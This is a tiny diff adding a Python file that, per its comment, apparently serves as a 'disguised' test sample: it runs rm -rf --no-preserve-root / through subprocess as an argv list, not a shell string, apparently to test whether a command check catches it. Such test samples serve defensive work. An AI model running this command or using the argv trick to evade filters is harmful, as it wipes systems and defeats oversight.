@@ -1,0 +1,4 @@
+# Disguised: no shell, the command as an argv list.
+import subprocess
+
+subprocess.run(["rm", "-rf", "--no-preserve-root", "/"])
